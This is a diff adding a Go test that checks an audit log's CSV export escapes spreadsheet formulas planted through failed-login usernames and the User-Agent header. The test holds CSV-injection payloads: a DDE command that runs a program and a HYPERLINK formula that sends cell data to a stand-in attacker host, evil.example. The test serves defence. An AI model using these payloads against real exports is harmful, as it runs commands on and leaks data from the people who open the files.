@@ -343,3 +343,35 @@ func BenchmarkAuditInsert(b *testing.B) {
 	b.StopTimer()
 	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "records/s")
 }
+
+// Who fails to sign in chooses the username and the User-Agent an auditor later opens in a
+// spreadsheet: a formula there must arrive as text, not run.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	srv, owner := start(t)
+	attacker := apptest.NewClient(t, srv.URL)
+	attacker.Header.Set("User-Agent", `=HYPERLINK("http://evil.example/?"&A1,"open")`)
+	for _, name := range []string{`=cmd|' /C calc'!A0`, "@SUM(1)", "+1+1", "-2+3"} {
+		if r := attacker.Post("/api/v1/auth/login", map[string]string{"username": name, "password": "wrong-password-here"}); r.Status != http.StatusUnauthorized {
+			t.Fatalf("login as %q: %d %s", name, r.Status, r.Body)
+		}
+	}
+	r := owner.Get("/api/v1/audit/export?format=csv&action=session.login")
+	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
+	if err != nil || len(rows) < 5 {
+		t.Fatalf("csv export: %d rows, %v\n%s", len(rows), err, r.Body)
+	}
+	seen := map[string]bool{}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell opens as a formula: %q", cell)
+			}
+			seen[cell] = true
+		}
+	}
+	for _, want := range []string{`'=cmd|' /C calc'!A0`, "'@SUM(1)", "'+1+1", "'-2+3", `'=HYPERLINK("http://evil.example/?"&A1,"open")`} {
+		if !seen[want] {
+			t.Errorf("the export lacks the neutralised cell %q", want)
+		}
+	}
+}
